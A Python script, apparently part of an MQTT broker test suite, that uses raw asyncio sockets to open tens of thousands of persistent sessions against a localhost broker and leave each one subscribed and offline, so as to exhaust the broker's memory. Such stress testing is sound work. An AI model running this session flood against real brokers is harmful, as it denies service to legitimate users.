#!/usr/bin/env python3
"""Opens many distinct MQTT 3.1.1 persistent sessions (clean session 0), each with one
subscription, and leaves them offline (DISCONNECT): the session abuse of
scripts/broker-memory-abuse.sh.

A raw-socket client on asyncio, so 50,000 sessions take seconds, not the minutes a
client library needs. Each connection waits for its CONNACK and SUBACK and fails loudly
on anything else.

Usage: session_flood.py --port PORT --sessions N --prefix ID_PREFIX
                        --filter 'abuse/{i}' [--qos 0|1|2] [--parallel 100]
"""

import argparse
import asyncio
import struct
import sys


def remaining_length(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n % 128, n // 128
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def string(s: str) -> bytes:
    b = s.encode()
    return struct.pack("!H", len(b)) + b


def connect_packet(client_id: str) -> bytes:
    # Protocol name, level 4 (3.1.1), flags 0 (clean session 0), keepalive 60.
    body = string("MQTT") + bytes([4, 0]) + struct.pack("!H", 60) + string(client_id)
    return b"\x10" + remaining_length(len(body)) + body


def subscribe_packet(topic_filter: str, qos: int) -> bytes:
    body = struct.pack("!H", 1) + string(topic_filter) + bytes([qos])
    return b"\x82" + remaining_length(len(body)) + body


async def one(port: int, client_id: str, topic_filter: str, qos: int) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(connect_packet(client_id))
        connack = await asyncio.wait_for(reader.readexactly(4), 10)
        if connack[0] != 0x20 or connack[3] != 0:
            raise RuntimeError(f"{client_id}: CONNACK {connack.hex()}")
        writer.write(subscribe_packet(topic_filter, qos))
        suback = await asyncio.wait_for(reader.readexactly(5), 10)
        if suback[0] != 0x90 or suback[4] > 2:
            raise RuntimeError(f"{client_id}: SUBACK {suback.hex()}")
        writer.write(b"\xe0\x00")
        await writer.drain()
    finally:
        writer.close()
        try:
            await writer.wait_closed()
        except OSError:
            pass


async def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--sessions", type=int, required=True)
    parser.add_argument("--prefix", required=True)
    parser.add_argument("--filter", required=True, help="'{i}' is the session's number")
    parser.add_argument("--qos", type=int, default=0)
    parser.add_argument("--parallel", type=int, default=100)
    args = parser.parse_args()

    todo = iter(range(args.sessions))
    failures = []

    async def worker() -> None:
        for i in todo:
            try:
                await one(args.port, f"{args.prefix}-{i}", args.filter.format(i=i), args.qos)
            except (OSError, RuntimeError, asyncio.TimeoutError, asyncio.IncompleteReadError) as e:
                failures.append(f"{args.prefix}-{i}: {e!r}")

    await asyncio.gather(*(worker() for _ in range(args.parallel)))
    if failures:
        print(f"{len(failures)} of {args.sessions} sessions failed, first: {failures[0]}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
